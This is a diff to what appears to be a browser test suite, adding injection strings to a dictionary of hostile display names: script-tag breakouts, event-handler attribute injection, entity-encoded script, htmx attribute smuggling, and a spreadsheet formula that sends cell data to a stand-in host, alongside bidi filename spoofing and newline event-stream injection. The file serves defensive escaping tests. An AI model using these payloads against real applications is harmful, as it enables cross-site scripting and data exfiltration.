@@ -11,6 +11,10 @@ from tests.browser.sandbox import Sandbox
 MARKUP = '<img src=x onerror="document.title=1">&lt;b&gt;"\'</a></tr>{{ 7|add:7 }}'
 NAMES = {
     "markup": MARKUP,
+    "a script": "</script><script>document.title=1</script><svg onload=document.title=2>",
+    "an attribute": '" autofocus onfocus="document.title=1" x=\'y\' hx-get=/setup/ hx-trigger=load ',
+    "a formula": '=HYPERLINK("https://evil.example/?"&A1,"Billing")',
+    "an entity": "&#60;script&#62;document.title=1&lt;/script&gt; &amp;quot; &nbsp;",
     "a partial of ours": '<hx-partial hx-target="#page" hx-swap="outerHTML">gone</hx-partial>',
     "bidi": "Billing \u202egnp.exe\u202c \u2066x\u2069",
     "newlines": "Billing\r\n\r\ndata: <b>x</b>\nid: 99\n\nevent: heartbeat\ndata: {}\n\n",
